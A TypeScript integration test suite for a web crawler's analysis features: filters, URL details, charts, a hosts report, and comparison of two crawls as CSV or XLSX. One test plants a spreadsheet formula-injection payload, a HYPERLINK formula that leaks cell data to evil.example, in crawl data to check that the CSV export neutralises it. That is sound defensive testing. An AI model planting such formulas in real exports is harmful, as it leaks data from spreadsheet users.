// The analysis views over real crawls of a loopback site (real workers, real crawl files): the filters, a URL's
// detail (redirect chain, inlinks with anchors, outlinks, extracted values, headers), the charts and their CSV,
// the hosts report; then the site changes, is crawled again, and the two crawls are compared, through the API and
// through the `compare` command's bundle.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import type http from 'node:http';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openCrawlFile, type Db } from '../../electron/engine/frontier/sqlite/crawl-file.ts';
import { UrlState } from '../../electron/engine/frontier/model.ts';
import { filterCounts, queryFiltered, FILTER_IDS, type FilterId } from '../../electron/engine/analysis/result-filters.ts';
import { inlinks, urlDetail } from '../../electron/engine/analysis/url-detail.ts';
import {
  chartCsv,
  depthDistribution,
  overTime,
  responseTimeHistogram,
  statusDistribution,
} from '../../electron/engine/analysis/charts-data.ts';
import { hostsReport } from '../../electron/engine/analysis/hosts-report.ts';
import { COMPARISON_CSV_COLUMNS, CrawlComparison } from '../../electron/engine/analysis/compare.ts';
import { parseCompareArgs, parseWordThreshold } from '../../electron/cli/compare-command.ts';
import { columnLetters } from '../../electron/engine/export/xlsx-writer.ts';
import { startFixtureSite, type FixtureSite } from '../helpers/fixture-site.ts';
import { newCrawl, ROOT, tempDir } from '../helpers/engine.ts';

const COMPARE_CLI = path.join(ROOT, 'out/node/compare.mjs');
const WORDS = Array.from({ length: 200 }, (_, i) => `word${i}`).join(' ');

/** The site, in its first version or its second (some pages changed, one added, one gone). */
function routes(version: () => 1 | 2): Record<string, (req: http.IncomingMessage, res: http.ServerResponse) => void> {
  const send = (res: http.ServerResponse, html: string, headers: http.OutgoingHttpHeaders = {}, status = 200) =>
    void res.writeHead(status, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(`<!doctype html><html>${html}</html>`);
  const v = () => version();
  return {
    '/': (_q, res) =>
      send(
        res,
        `<head><title>Home</title><meta name="description" content="Welcome"><link rel="canonical" href="/"></head><body><h1>Home</h1><p>${WORDS}</p>
        <a href="/a">Page A</a> <a href="/b">B</a> <a href="/dup1">one</a> ${v() === 1 ? '<a href="/dup2">two</a>' : '<a href="/new">new</a>'}
        <a href="/long">long</a> <a href="/old">old</a> <a href="/missing">missing</a> <a href="/broken">broken</a> <a href="/noindex">noindex</a>
        <a href="/canon">canon</a> <a href="/xrobots">xrobots</a> <a href="http://elsewhere.invalid/x">out</a> <a href="mailto:me@example.invalid">mail</a></body>`,
      ),
    '/a': (_q, res) =>
      send(
        res,
        `<head><title>${v() === 1 ? 'Page A' : 'Page A, renamed'}</title><meta name="description" content="Same desc"></head>
        <body><h1>A</h1><h1>A again</h1><p>price: 12</p><a href="/">home</a></body>`,
      ),
    '/b': (_q, res) =>
      send(
        res,
        `<head><meta name="description" content="Same desc"></head><body><p>price: 7 and price: 9</p>${v() === 2 ? `<p>${WORDS}</p>` : ''}</body>`,
      ),
    '/dup1': (_q, res) => send(res, '<head><title>Duplicate</title></head><body><h1>One</h1></body>'),
    '/dup2': (_q, res) => send(res, '<head><title>Duplicate</title></head><body><h1>Two</h1></body>'),
    '/new': (_q, res) => send(res, '<head><title>New</title></head><body><h1>New</h1></body>'),
    '/long': (_q, res) =>
      send(
        res,
        '<head><title>A title that is much longer than sixty characters, as some titles are on the web</title></head><body><h1>L</h1></body>',
      ),
    '/old': (_q, res) => void res.writeHead(301, { location: '/older', 'content-type': 'text/html' }).end('moved'),
    '/older': (_q, res) => void res.writeHead(302, { location: '/a', 'content-type': 'text/html' }).end('moved again'),
    '/missing': (_q, res) =>
      v() === 1
        ? void res.writeHead(404, { 'content-type': 'text/html' }).end('<title>Not found</title>')
        : send(res, '<head><title>Found</title></head><body><h1>Here</h1></body>'),
    '/broken': (_q, res) => void res.writeHead(500, { 'content-type': 'text/html' }).end('oops'),
    '/noindex': (_q, res) =>
      send(
        res,
        `<head><title>Hidden</title><meta name="robots" content="${v() === 1 ? 'noindex, nofollow' : 'nofollow'}"></head><body><h1>H</h1><a href="/hidden">hidden</a></body>`,
      ),
    '/hidden': (_q, res) => send(res, '<head><title>Never</title></head>'),
    '/canon': (_q, res) =>
      send(res, `<head><title>Canon</title><link rel="canonical" href="${v() === 1 ? '/a' : '/b'}"></head><body><h1>C</h1></body>`),
    '/xrobots': (_q, res) => send(res, '<head><title>X</title></head><body><h1>X</h1></body>', { 'x-robots-tag': 'noindex' }),
  };
}

let site: FixtureSite;
let version: 1 | 2 = 1;
let oldFile: string;
let newFile: string;
let db: Db;
const dirs: string[] = [];
const scratch = (prefix = 'trawl-analysis-crawl-') => {
  const d = tempDir(prefix);
  dirs.push(d);
  return d;
};

async function crawl(): Promise<string> {
  const { controller, dbPath } = newCrawl(
    {
      seeds: [site.url('/')],
      threads: 3,
      maxAttempts: 1,
      extraction: [{ name: 'price', type: 'regex', expression: 'price: (\\d+)', all: true }],
    },
    scratch(),
  );
  controller.start();
  const info = await controller.done;
  expect(info.reason).toBe('completed');
  return dbPath;
}

beforeAll(async () => {
  site = await startFixtureSite({ pages: 1, routes: routes(() => version) });
  oldFile = await crawl();
  version = 2;
  newFile = await crawl();
  db = openCrawlFile(oldFile, { readonly: true });
});
afterAll(async () => {
  db?.close();
  await site?.close();
  for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
});

const u = (p: string) => site.url(p);
const urlsOf = (filter: FilterId, sort: 'url' | 'seq' = 'url') =>
  queryFiltered(db, { filter, sort, descending: false, offset: 0, limit: 100 }).rows.map((r) => r.url);

describe('analysis of a real crawl', () => {
  it('filters it as the site says, each count matching its rows', () => {
    const counts = filterCounts(db);
    for (const id of FILTER_IDS)
      expect({ id, n: counts[id] }).toEqual({
        id,
        n: queryFiltered(db, { filter: id, sort: 'seq', descending: false, offset: 0, limit: 1000 }).total,
      });
    expect(urlsOf('status-3xx')).toEqual([u('/old'), u('/older')]);
    expect(urlsOf('status-4xx')).toEqual([u('/missing')]);
    expect(urlsOf('status-5xx')).toEqual([u('/broken')]);
    expect(urlsOf('title-duplicate')).toEqual([u('/dup1'), u('/dup2')]);
    expect(urlsOf('title-missing')).toEqual([u('/b')]);
    expect(urlsOf('title-over-60')).toEqual([u('/long')]);
    expect(urlsOf('description-duplicate')).toEqual([u('/a'), u('/b')]);
    expect(urlsOf('h1-multiple')).toEqual([u('/a')]);
    expect(urlsOf('h1-missing')).toEqual([u('/b')]);
    expect(urlsOf('canonical-self')).toEqual([u('/')]);
    expect(urlsOf('canonical-elsewhere')).toEqual([u('/canon')]);
    expect(urlsOf('directive-noindex')).toEqual([u('/noindex'), u('/xrobots')]);
    expect(urlsOf('directive-nofollow')).toEqual([u('/noindex')]);
    expect(urlsOf('external')).toEqual(['http://elsewhere.invalid/x']);
    expect(urlsOf('indexable')).toEqual([u('/'), u('/a'), u('/b'), u('/dup1'), u('/dup2'), u('/long')].sort());
  });

  it('details a URL in a redirect chain: the chain through it, its source, and its target page', () => {
    const older = urlDetail(db, { url: u('/older') })!;
    expect(older.redirect_chain.hops.map((h) => [h.url, h.status_code])).toEqual([
      [u('/old'), 301],
      [u('/older'), 302],
      [u('/a'), 200],
    ]);
    expect(older.redirect_chain).toMatchObject({
      position: 1,
      loop: false,
      truncated: false,
      redirected_from: [{ url: u('/old'), status_code: 301 }],
    });
    expect(older.row).toMatchObject({ status_code: 302, redirect_url: u('/a'), indexability_reason: 'redirected' });
    expect(older.via?.url).toBe(u('/old'));
    // Asked from either end, the chain is the same.
    expect(urlDetail(db, { url: u('/old') })!.redirect_chain.hops.map((h) => h.url)).toEqual([u('/old'), u('/older'), u('/a')]);
  });

  it('details a page: inlinks with anchors and kinds (paged), outlinks, extracted values, headers, unfetchable links', () => {
    // Found however it is spelled, as the crawl normalised it.
    const a = urlDetail(db, { url: `${site.origin.replace('http://', 'HTTP://')}/a#fragment` })!;
    expect(a.url).toBe(u('/a'));
    expect(a.inlinks.rows.map((l) => [l.from_url, l.kind, l.anchor, l.nofollow]).sort()).toEqual(
      [
        [u('/'), 'a', 'Page A', false],
        [u('/canon'), 'canonical', null, false],
        [u('/older'), 'redirect', null, false],
      ].sort(),
    );
    expect(a.inlinks.total).toBe(3);
    expect(a.extracted).toEqual([{ rule: 'price', values: ['12'] }]);
    expect(a.outlinks.rows.map((l) => [l.to_url, l.anchor, l.state, l.status_code])).toEqual([[u('/'), 'home', UrlState.done, 200]]);
    expect(a.response_headers?.['content-type']).toBe('text/html; charset=utf-8');
    expect(a.row).toMatchObject({ title: 'Page A', h1_count: 2, inlinks: 3 });
    expect(a.fetched).toBe(true);

    const first = inlinks(db, a.url_id, { limit: 2 });
    const rest = inlinks(db, a.url_id, { limit: 2, after: first.next });
    expect([...first.rows, ...rest.rows].map((l) => l.from_url).sort()).toEqual([u('/'), u('/canon'), u('/older')].sort());
    expect(rest.next).toBeNull();

    const b = urlDetail(db, { url: u('/b') })!;
    expect(b.extracted).toEqual([{ rule: 'price', values: ['7', '9'] }]);
    const home = urlDetail(db, { url: u('/') })!;
    expect(home.unfetchable_links).toEqual([{ href: 'mailto:me@example.invalid', scheme: 'mailto', anchor: 'mail' }]);
    expect(home.outlinks.rows.find((l) => l.to_url === 'http://elsewhere.invalid/x')).toMatchObject({
      state: UrlState.outOfScope,
      status_code: null,
    });
    expect(urlDetail(db, { url: u('/noindex') })!.outlinks.rows).toMatchObject([
      { to_url: u('/hidden'), nofollow: true, state: UrlState.nofollow },
    ]);
    expect(urlDetail(db, { url: u('/xrobots') })!.response_headers?.['x-robots-tag']).toBe('noindex');
    const hidden = urlDetail(db, { url: u('/hidden') })!;
    expect(hidden).toMatchObject({
      fetched: false,
      state_name: 'nofollow only',
      response_headers: null,
      row: { seq: null, status_code: null, inlinks: 1 },
    });
    expect(urlDetail(db, { url: u('/never-linked') })).toBeNull();
    expect(urlDetail(db, { id: home.url_id })!.url).toBe(u('/'));
  });

  it('charts its statuses, depths, response times and pages over time, with CSV, and counts only what is new when asked', () => {
    const all = (db.prepare('SELECT count(*) AS n FROM results').get() as { n: number }).n;
    const status = statusDistribution(db);
    expect(status.rows.map((r) => [r.label, r.count])).toEqual([
      ['200', all - 4],
      ['301', 1],
      ['302', 1],
      ['404', 1],
      ['500', 1],
    ]);
    expect(status.total).toBe(all);
    expect(depthDistribution(db).rows).toEqual([
      { depth: 0, count: 1 },
      { depth: 1, count: all - 1 },
    ]);
    expect(responseTimeHistogram(db).total).toBe(all);
    const time = overTime(db, { bucketMs: 1000 });
    expect(time.rows.reduce((n, r) => n + r.pages, 0)).toBe(all);
    expect(time.rows.reduce((n, r) => n + r.errors, 0)).toBe(2);
    expect(statusDistribution(db, { afterSeq: status.last_seq })).toMatchObject({ rows: [], total: 0, last_seq: status.last_seq });
    const csv = chartCsv(status);
    expect(csv.startsWith('\uFEFFstatus_code,count\r\n200,')).toBe(true);
    expect(csv.endsWith('500,1\r\n')).toBe(true);
    expect(chartCsv(time).split('\r\n')[0]).toBe('\uFEFFtime,pages,errors,pages_per_second');
  });

  it('reports its host from the counters the frontier kept', () => {
    const report = hostsReport(db, { includeIdle: true });
    const host = report.rows.find((r) => r.origin === site.origin)!;
    const all = db.prepare('SELECT count(status_code) AS crawled, coalesce(sum(size_bytes), 0) AS bytes FROM results').get() as {
      crawled: number;
      bytes: number;
    };
    expect(host).toMatchObject({ crawled: all.crawled, failed: 0, http_errors: 2, errors: 2, bytes: all.bytes, queued: 0, in_flight: 0 });
    expect(host.politeness.state).toBe('idle');
    expect(host.robots).toMatchObject({ state: 'known', status: 404 });
    expect(report.rows.find((r) => r.origin === 'http://elsewhere.invalid')).toMatchObject({ crawled: 0, queued: 0 });
  });
});

describe('comparison of two crawls of the changed site', () => {
  it('lists what was added, removed and changed, and why', () => {
    const c = CrawlComparison.open(oldFile, newFile);
    try {
      const s = c.summary();
      expect({ added: s.added, removed: s.removed, changed: s.changed }).toEqual({ added: 1, removed: 1, changed: 5 });
      expect(s.by_field).toEqual({ status_code: 1, title: 2, meta_description: 0, canonical: 1, indexability: 2, word_count: 2 });
      expect(c.page('added').rows.map((r) => r.url)).toEqual([u('/new')]);
      expect(c.page('removed').rows.map((r) => [r.url, r.old?.title, r.new])).toEqual([[u('/dup2'), 'Duplicate', null]]);
      const changed = Object.fromEntries(c.page('changed').rows.map((r) => [r.url, r.fields]));
      expect(changed).toEqual({
        [u('/a')]: ['title'],
        [u('/b')]: ['word_count'],
        [u('/missing')]: ['status_code', 'title', 'indexability', 'word_count'],
        [u('/noindex')]: ['indexability'],
        [u('/canon')]: ['canonical'],
      });
      const missing = c.page('changed').rows.find((r) => r.url === u('/missing'))!;
      expect([missing.old?.status_code, missing.new?.status_code, missing.old?.indexability_reason, missing.new?.indexability]).toEqual([
        404,
        200,
        'client error',
        'indexable',
      ]);
      // Paged by key, the pages add up to the whole.
      const firstTwo = c.page('changed', { limit: 2 });
      const rest = c.page('changed', { limit: 10, after: firstTwo.next });
      expect([...firstTwo.rows, ...rest.rows].map((r) => r.url)).toEqual(c.page('changed').rows.map((r) => r.url));
      expect([...c.rows()].length).toBe(7);
    } finally {
      c.close();
    }
    // A word threshold wider than the change leaves /b unchanged.
    const loose = CrawlComparison.open(oldFile, newFile, { wordThreshold: { words: 1000 } });
    try {
      expect(loose.page('changed').rows.map((r) => r.url)).not.toContain(u('/b'));
    } finally {
      loose.close();
    }
  });

  it('exports the comparison as CSV through the compare command, with a one-line summary', async () => {
    const out = path.join(scratch(), 'diff.csv');
    const run = await runCompareCli([oldFile, newFile, '--out', out]);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout).toBe(
      `Compared ${oldFile} (${countResults(oldFile)} URLs) with ${newFile} (${countResults(newFile)} URLs): 1 added, 1 removed, 5 changed\nCSV: ${out} (7 rows)\n`,
    );
    const text = fs.readFileSync(out, 'utf8');
    expect(text.startsWith(`\uFEFF${COMPARISON_CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(fs.existsSync(`${out}.part`)).toBe(false);
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.change)).toEqual(['added', 'removed', 'changed', 'changed', 'changed', 'changed', 'changed']);
    expect(rows.find((r) => r.url === u('/a'))).toMatchObject({
      changed_fields: 'title',
      old_title: 'Page A',
      new_title: 'Page A, renamed',
    });
    expect(rows.find((r) => r.url === u('/missing'))).toMatchObject({
      old_status_code: '404',
      new_status_code: '200',
      changed_fields: 'status_code title indexability word_count',
    });
  });

  it("exports the comparison as an XLSX workbook for --out FILE.xlsx: the CSV's columns, numbers typed, header frozen and filtered", async () => {
    const out = path.join(scratch(), 'diff.xlsx');
    const run = await runCompareCli([oldFile, newFile, '--out', out]);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout.endsWith(`\nXLSX: ${out} (7 rows)\n`)).toBe(true);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(out);
    const sheet = book.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual([...COMPARISON_CSV_COLUMNS]);
    expect(sheet.rowCount).toBe(8);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe(`A1:${columnLetters(header.length)}8`);
    const missing = Array.from({ length: 7 }, (_, i) => sheet.getRow(i + 2)).find((r) => r.getCell(2).value === u('/missing'))!;
    const cell = (name: string) => missing.getCell(header.indexOf(name) + 1);
    expect(cell('old_status_code').value).toBe(404);
    expect(cell('old_status_code').type).toBe(ExcelJS.ValueType.Number);
    expect(cell('new_status_code').value).toBe(200);
    expect(cell('changed_fields').value).toBe('status_code title indexability word_count');
  });

  it('neutralises crawled text that a spreadsheet would run as a formula in the comparison CSV', async () => {
    // A copy of the new crawl whose changed title, added page's title and URL text start formulas, as a hostile site's can.
    const hostile = path.join(scratch(), 'hostile.trawl');
    const source = openCrawlFile(newFile, { readonly: true });
    try {
      source.prepare('VACUUM INTO ?').run(hostile);
    } finally {
      source.close();
    }
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Page A")';
    const edit = openCrawlFile(hostile);
    try {
      const setTitle = edit.prepare('UPDATE results SET title = ? WHERE url_id = (SELECT id FROM urls WHERE url = ?)');
      setTitle.run(formula, u('/a'));
      setTitle.run('+1+2', u('/new'));
      edit.prepare("UPDATE results SET meta_description = '@SUM(1)' WHERE url_id = (SELECT id FROM urls WHERE url = ?)").run(u('/new'));
    } finally {
      edit.close();
    }
    const out = path.join(scratch(), 'hostile.csv');
    const c = CrawlComparison.open(oldFile, hostile);
    try {
      expect(await c.exportCsv(out)).toEqual({ rows: 7 });
    } finally {
      c.close();
    }
    const rows = parse(fs.readFileSync(out, 'utf8'), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.find((r) => r.url === u('/a'))).toMatchObject({ changed_fields: 'title', old_title: 'Page A', new_title: `'${formula}` });
    expect(rows.find((r) => r.url === u('/new'))).toMatchObject({ change: 'added', new_title: "'+1+2", new_meta_description: "'@SUM(1)" });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('names bad arguments and exits 2', async () => {
    const one = await runCompareCli([oldFile]);
    expect(one.code).toBe(2);
    expect(one.stderr).toContain('give two crawl files, the old one then the new one (got 1)');
    const notCrawl = path.join(scratch(), 'not.trawl');
    fs.writeFileSync(notCrawl, 'hello');
    const bad = await runCompareCli([oldFile, notCrawl]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain(notCrawl);
    const threshold = await runCompareCli([oldFile, newFile, '--word-threshold', 'lots', '--bogus']);
    expect(threshold.code).toBe(2);
    expect(threshold.stderr).toContain('--word-threshold must be a number of words (25) or a percentage (10%), not "lots"');
    expect(threshold.stderr).toContain('unknown option --bogus');
    expect(parseWordThreshold('15%')).toEqual({ percent: 15 });
    expect(parseWordThreshold('40')).toEqual({ words: 40 });
    expect(parseCompareArgs([oldFile, newFile, '--word-threshold=5%'])).toMatchObject({ wordThreshold: { percent: 5 }, out: null });
    expect(() => parseCompareArgs([oldFile, newFile, '--out', oldFile])).toThrow(/would overwrite a crawl file/);
  });
});

function countResults(file: string): number {
  const d = openCrawlFile(file, { readonly: true });
  try {
    return (d.prepare('SELECT count(*) AS n FROM results').get() as { n: number }).n;
  } finally {
    d.close();
  }
}

function runCompareCli(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [COMPARE_CLI, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}
